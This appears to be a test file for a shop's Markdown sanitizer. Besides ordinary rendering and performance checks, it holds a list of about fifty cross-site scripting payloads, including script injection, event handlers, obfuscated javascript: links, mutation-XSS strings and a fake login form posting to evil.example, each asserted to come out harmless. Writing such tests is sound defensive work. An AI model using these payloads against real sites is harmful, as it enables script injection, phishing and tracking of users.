import { Parser } from 'htmlparser2';
import type { Env } from '../../../../config/env.js';
import { DiskImageStore } from '../../../../platform/storage/disk-image-store.js';
import { ImageUrls } from '../../../../platform/storage/image-urls.js';
import { SanitizedMarkdown } from './sanitized-markdown.js';

const OWN = `/media/${'a'.repeat(32)}.webp`;
const env = { SHOP_URL: 'https://shop.example' } as Env;
const renderer = new SanitizedMarkdown(
  new ImageUrls(new DiskImageStore({ ...env, DATA_DIR: '/nowhere' }), env),
);
const html = (markdown: string) => renderer.render(markdown).html.trim();

it.each([
  ['# Title', '<h2>Title</h2>'],
  ['Some **bold** and *soft* text', '<p>Some <strong>bold</strong> and <em>soft</em> text</p>'],
  ['- a\n- b', '<ul>\n<li>a</li>\n<li>b</li>\n</ul>'],
  ['[Contact](/contact)', '<p><a href="/contact">Contact</a></p>'],
  ['[Mail](mailto:a@b.example)', '<p><a href="mailto:a@b.example">Mail</a></p>'],
  [
    '[Out](https://x.example/a?b=1&c)',
    '<p><a href="https://x.example/a?b=1&amp;c" rel="noopener noreferrer">Out</a></p>',
  ],
  [`![A bar](${OWN})`, `<p><img src="${OWN}" alt="A bar" /></p>`],
  ['1 < 2 & 3', '<p>1 &lt; 2 &amp; 3</p>'],
])('renders %j', (markdown, expected) => expect(html(markdown)).toBe(expected));

it('renders a table', () => {
  expect(html('| a | b |\n|---|---|\n| 1 | 2 |')).toMatch(/^<table>.*<td>2<\/td>.*<\/table>$/s);
});

it('names the own images that it shows, once each', () => {
  const absolute = `https://shop.example${OWN}`;
  const other = OWN.replace(/a{32}/, 'b'.repeat(32));
  const text = `![](${OWN}) ![](${absolute}) ![](${other}) ![](https://evil.example${OWN})`;
  expect(renderer.render(text).images).toEqual([
    `${'a'.repeat(32)}.webp`,
    `${'b'.repeat(32)}.webp`,
  ]);
});

it('summarizes the first sentences without markup', () => {
  expect(renderer.render('# Hi\n\nA & **b** <i>c</i>\n\n- d').summary).toBe('Hi A & b c d');
  const { summary } = renderer.render('word '.repeat(100));
  expect(summary.length).toBeLessThanOrEqual(160);
  expect(summary).toMatch(/word…$/);
});

const ATTACKS = [
  '<script>alert(1)</script>',
  '<script src=//evil.example></script>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object><embed src="javascript:alert(1)">',
  '<form action="https://evil.example"><input name=password><button>Log in</button></form>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href=" &#106;avascript:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="java&#10;script:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="//evil.example">x</a>',
  '<a href="/\\evil.example" onclick="alert(1)" target="_blank" style="position:fixed">x</a>',
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](javascript&colon;alert(1))',
  '[x](&#x6A;avascript:alert(1))',
  '[x](<java\nscript:alert(1)>)',
  '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[x]: javascript:alert(1)\n\n[x]',
  '<javascript:alert(1)>',
  '![x](javascript:alert(1))',
  '![x](data:image/svg+xml,<svg onload=alert(1)>)',
  '![x](https://evil.example/track.gif)',
  '![x](//evil.example/track.gif)',
  '![x](/api/auth/logout)',
  `![x](https://evil.example${OWN})`,
  '![x" onerror="alert(1)](x)',
  `![x](${OWN}"onerror="alert(1))`,
  `![x](${OWN} "t\\" onerror=\\"alert(1)")`,
  '<img src="x" srcset="https://evil.example/a.png 1x">',
  '<style>@import "https://evil.example/a.css";</style><p style="background:url(//evil.example)">x</p>',
  '<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=//evil.example"><link rel=stylesheet href=//evil.example>',
  '<div id="root" class="written" data-page>x</div><main id="main">x</main>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<textarea></textarea><img src=x onerror=alert(1)></textarea>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<template><script>alert(1)</script></template>',
  '`<script>alert(1)</script>`',
  '```html"onmouseover=alert(1)\n<script>alert(1)</script>\n```',
  '</div></main><script>alert(1)</script>',
  '<p><a href="javascript:alert(1)"<b>x</a>',
  '<<script>alert(1)//<</script>',
  '\u0000<scr\u0000ipt>alert(1)</scr\u0000ipt>',
];

const TAGS = new Set(
  'h2 h3 h4 p br hr ul ol li blockquote a strong em del code pre img table thead tbody tr th td'.split(
    ' ',
  ),
);

/** The tags and attributes that a browser would find. */
function foundIn(markup: string) {
  const found: { tag: string; attribute?: string; value?: string }[] = [];
  const parser = new Parser({
    onopentag: (tag, attributes) => {
      found.push({ tag });
      for (const [attribute, value] of Object.entries(attributes)) {
        found.push({ tag, attribute, value });
      }
    },
    oncomment: () => found.push({ tag: 'comment' }),
  });
  parser.end(markup);
  return found;
}

const isSafe = ({ tag, attribute, value = '' }: ReturnType<typeof foundIn>[number]): boolean => {
  if (!TAGS.has(tag)) return false;
  if (attribute === undefined || attribute === 'alt' || attribute === 'start') return true;
  if (attribute === 'rel') return value === 'noopener noreferrer';
  if (attribute === 'src') return tag === 'img' && value === OWN;
  return tag === 'a' && attribute === 'href' && isSafeLink(value);
};

/** What a browser makes of it leads elsewhere openly, or stays in the shop. */
function isSafeLink(value: string): boolean {
  const { protocol, host } = new URL(value, 'https://shop.example');
  const isOpen = /^https?:\/\//.test(value);
  return ['https:', 'http:', 'mailto:'].includes(protocol) && (isOpen || host !== 'evil.example');
}

it.each(ATTACKS)('makes nothing dangerous of %j', (attack) => {
  for (const text of [
    attack,
    `a ${attack} b`,
    `> ${attack}`,
    `- ${attack}`,
    `| ${attack} |\n|---|`,
  ]) {
    expect(foundIn(html(text)).filter((one) => !isSafe(one))).toEqual([]);
  }
});

it.each(['[', '![', '**a ', '<a', '`', '[a](', '|', '&#', '<!--', '](', '[a]: b\n'])(
  'takes little time for many %j',
  (piece) => {
    const started = performance.now();
    renderer.render(piece.repeat(Math.floor(30_000 / piece.length)));
    expect(performance.now() - started).toBeLessThan(5_000);
  },
);

it('says why it cannot descend into thousands of quotes', () => {
  expect(() => renderer.render('> '.repeat(15_000))).toThrow('The text is nested too deeply');
});
